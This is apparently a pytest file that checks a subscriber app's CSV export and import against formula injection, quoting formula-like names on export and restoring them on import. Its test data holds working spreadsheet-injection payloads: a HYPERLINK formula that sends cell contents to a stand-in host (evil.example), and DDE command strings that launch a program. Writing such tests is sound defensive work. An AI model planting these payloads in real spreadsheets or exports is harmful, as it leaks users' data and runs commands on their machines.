"""A reader's own words never run as a formula in the editor's spreadsheet (CSV injection):
a name that starts like a formula is exported with a leading apostrophe, which spreadsheets
show as text, and import takes it off again, so a round trip keeps the name as typed."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from sqlalchemy import select

from subscribers.models import Subscriber
from tests.subscribers.test_csv_io import Store, open_store

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _rows() -> str:
    quoted = (name.replace('"', '""') for name in FORMULAS)
    return "".join(f'reader{i}@example.org,"{name}",,\n' for i, name in enumerate(quoted))


@pytest.fixture
def store(database_url: str) -> Iterator[Store]:
    yield from open_store(database_url)


def test_names_that_start_like_formulas_are_exported_as_text(store: Store) -> None:
    report, bad = store.run("email,name,topics,timezone\n" + _rows())
    assert not bad and report.rows == len(FORMULAS)

    exported = list(csv.reader(io.StringIO(store.export())))
    names = [row[1] for row in exported[1:]]
    assert names == ["'" + name for name in FORMULAS]
    for row in exported[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_round_trip_keeps_formula_like_names(store: Store) -> None:
    store.run("email,name,topics,timezone\n" + _rows())
    exported = store.export()
    with store.sessions() as session:
        session.execute(Subscriber.__table__.delete())
        session.commit()
    _, bad = store.run(exported)
    assert not bad, bad
    with store.sessions() as session:
        assert sorted(session.scalars(select(Subscriber.name))) == sorted(FORMULAS)
